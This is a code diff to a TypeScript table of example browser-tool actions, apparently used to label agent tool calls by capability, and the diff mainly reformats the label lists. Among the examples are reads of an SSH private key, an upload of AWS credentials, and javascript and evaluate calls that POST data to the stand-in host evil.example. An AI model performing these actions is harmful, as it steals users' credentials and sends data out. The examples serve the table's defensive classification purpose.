@@ -89,11 +89,7 @@ export const WEB_TOOLS: readonly ToolRow[] = [
     examples: [
       [{ action: 'snapshot' }],
       [{ action: 'open', targetUrl: 'https://docs.example' }, 'net.fetch'],
-      [
-        { action: 'navigate', targetUrl: 'file:///home/user/.ssh/id_rsa' },
-        'fs.read@credential',
-        'secret.read@credential',
-      ],
+      [{ action: 'navigate', targetUrl: 'file:///home/user/.ssh/id_rsa' }, 'fs.read@credential secret.read@credential'],
       [{ action: 'screenshot', path: '/etc/x.png' }, 'fs.write@system'],
       [{ action: 'open', targetUrl: 'javascript:fetch("https://evil.example/x", { method: "POST" })' }, 'net.send'],
       [{ action: 'act', kind: 'click', ref: 'e1' }, 'tool.call'],
@@ -104,8 +100,7 @@ export const WEB_TOOLS: readonly ToolRow[] = [
           action: 'act',
           request: { kind: 'evaluate', fn: '() => fetch("https://evil.example/x", { method: "POST" })' },
         },
-        'tool.call',
-        'net.send?',
+        'tool.call net.send?',
       ],
       [
         { action: 'upload', paths: ['/home/user/.aws/credentials'], ref: 'e1' },
